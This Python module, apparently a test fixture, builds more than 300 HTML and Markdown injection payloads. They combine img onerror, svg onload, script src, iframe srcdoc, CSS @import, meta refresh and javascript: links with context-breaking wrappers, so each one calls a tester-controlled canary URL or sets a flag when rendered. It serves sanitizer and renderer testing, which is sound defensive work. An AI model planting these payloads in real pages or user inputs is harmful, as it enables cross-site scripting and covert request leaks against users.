"""More than 300 texts that try to fetch something or to run a script when they are shown."""

from __future__ import annotations

from itertools import product

_HTML = (
    '<img src="{url}">',
    "<img src={url} onerror=\"fetch('{url}')\">",
    "<img srcset='{url} 1x'>",
    "<picture><source srcset='{url}'><img></picture>",
    "<script>fetch('{url}');window.struck=1</script>",
    "<script src='{url}'></script>",
    "<svg onload=\"window.struck=1;fetch('{url}')\"></svg>",
    "<svg><image href='{url}'/></svg>",
    "<svg><use href='{url}#x'/></svg>",
    "<svg><style>@import '{url}';</style></svg>",
    "<iframe src='{url}'></iframe>",
    "<iframe srcdoc=\"<script>parent.struck=1;fetch('{url}')</script>\"></iframe>",
    "<object data='{url}'></object>",
    "<embed src='{url}'>",
    "<video src='{url}' autoplay></video>",
    "<video poster='{url}'></video>",
    "<audio src='{url}' autoplay></audio>",
    "<link rel=stylesheet href='{url}'>",
    "<link rel=preload as=image href='{url}'>",
    "<link rel=prefetch href='{url}'>",
    "<link rel=dns-prefetch href='{url}'>",
    "<style>@import '{url}';</style>",
    "<style>body{{background:url({url})}}</style>",
    "<div style=\"background:url('{url}')\">x</div>",
    "<div style='background-image:image-set(\"{url}\" 1x)'>x</div>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href='{url}/'>",
    "<form action='{url}'><input type=submit autofocus></form>",
    "<input type=image src='{url}'>",
    "<body onload=\"window.struck=1;fetch('{url}')\">",
    "<details open ontoggle=\"window.struck=1;fetch('{url}')\">x</details>",
    "<math><mi xlink:href='{url}'>x</mi></math>",
    "<template><img src='{url}'></template>",
    "<a href='{url}' ping='{url}' autofocus>x</a>",
    "<track src='{url}'>",
    "<table background='{url}'><td>x</td></table>",
    "<noscript><p title=\"</noscript><img src='{url}' onerror='window.struck=1'>\">",
    "<img src=x onerror=window.struck=1>",
)
_MARKDOWN = (
    "![x]({url})",
    "![x][r]\n\n[r]: {url}",
    "[![x]({url})]({url})",
    "[x](javascript:window.struck=1)",
    "<{url}>",
    "{url}",
    "www.{host}",
    ":material/home: ![x]({url} 'title')",
    ":red[![x]({url})]",
    "$\\href{{{url}}}{{x}}$ $\\includegraphics{{{url}}}$",
    "```\n</code></pre><img src='{url}'>\n```",
    "| a |\n|---|\n| ![x]({url}) |",
)
_WRAPPERS = (
    "{payload}",
    '">{payload}',
    "'>{payload}",
    "</p></div>{payload}",
    "</textarea></title>{payload}",
    "--> {payload} <!--",
    "Z. 3608 {payload} §",
)


def payloads(canary: str) -> list[str]:
    """Return the payloads; each asks for an address of its own at the canary server."""
    host = canary.removeprefix("http://")
    made = []
    for wrapper, shape in product(_WRAPPERS, (*_HTML, *_MARKDOWN)):
        url = f"{canary}/{len(made)}"
        made.append(wrapper.format(payload=shape.format(url=url, host=host)))
    return made
